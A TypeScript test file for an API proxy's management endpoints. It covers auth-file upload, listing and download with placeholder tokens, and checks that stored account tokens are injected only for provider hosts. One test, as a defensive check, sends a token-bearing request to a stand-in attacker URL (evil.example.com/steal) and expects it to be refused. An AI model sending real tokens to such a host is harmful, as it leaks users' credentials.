import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import { startEngine, type RunningEngine } from './harness';

/** CLIProxyAPI's auth-file upload/download and `api-call` with `$TOKEN$`, as its web panel uses them. */
let sy: RunningEngine;
let fake: http.Server;
const seen: http.IncomingHttpHeaders[] = [];
const record = { type: 'codex', email: 'dana@example.com', access_token: 'tok-dana-123', refresh_token: 'r', account_id: 'acct-d', expired: '2099-01-01T00:00:00Z' };

beforeAll(async () => {
  fake = http.createServer((req, res) => {
    seen.push(req.headers);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ plan_type: 'plus' }));
  });
  await new Promise<void>((r) => fake.listen(0, '127.0.0.1', r));
  const port = (fake.address() as { port: number }).port;
  sy = await startEngine(['remote-management: {secret-key: m}', 'secret-store: file', 'host-overrides:', `  "https://chatgpt.com": "http://127.0.0.1:${port}"`].join('\n'));
});
afterAll(async () => {
  await sy?.close();
  await new Promise((r) => fake.close(r));
});

const h = { 'x-management-key': 'm' };

describe('auth files over the management API', () => {
  it('uploads an auth file, lists it, and downloads the same record', async () => {
    const up = await fetch(`${sy.url}/v0/management/auth-files?name=codex-dana.json`, { method: 'POST', headers: h, body: JSON.stringify(record) });
    expect(up.status).toBe(200);
    const list = (await (await fetch(`${sy.url}/v0/management/auth-files`, { headers: h })).json()) as { files: Array<{ name: string; provider: string; email?: string }> };
    expect(list.files).toEqual([expect.objectContaining({ name: 'codex-dana.json', provider: 'codex', email: 'dana@example.com' })]);
    const down = (await (await fetch(`${sy.url}/v0/management/auth-files/download?name=codex-dana.json`, { headers: h })).json()) as Record<string, unknown>;
    expect(down).toMatchObject({ type: 'codex', access_token: 'tok-dana-123' });
  });

  it('rejects a malformed upload and keeps nothing', async () => {
    const bad = await fetch(`${sy.url}/v0/management/auth-files?name=broken.json`, { method: 'POST', headers: h, body: '{"type": "codex", ' });
    expect(bad.status).toBe(400);
    const list = (await (await fetch(`${sy.url}/v0/management/auth-files`, { headers: h })).json()) as { files: unknown[] };
    expect(list.files).toHaveLength(1);
  });

  it('api-call injects the account token only for provider hosts', async () => {
    const res = await fetch(`${sy.url}/v0/management/api-call`, {
      method: 'POST',
      headers: { ...h, 'content-type': 'application/json' },
      body: JSON.stringify({ auth_index: 'codex-dana', method: 'GET', url: 'https://chatgpt.com/backend-api/wham/usage', header: { Authorization: 'Bearer $TOKEN$' } }),
    });
    const body = (await res.json()) as { status_code: number; body: string };
    expect(body.status_code).toBe(200);
    expect(JSON.parse(body.body)).toEqual({ plan_type: 'plus' });
    expect(seen.at(-1)?.authorization).toBe('Bearer tok-dana-123');
    const elsewhere = await fetch(`${sy.url}/v0/management/api-call`, {
      method: 'POST',
      headers: { ...h, 'content-type': 'application/json' },
      body: JSON.stringify({ auth_index: 'codex-dana', url: 'https://evil.example.com/steal', header: { Authorization: 'Bearer $TOKEN$' } }),
    });
    expect(elsewhere.status).toBe(400);
  });
});
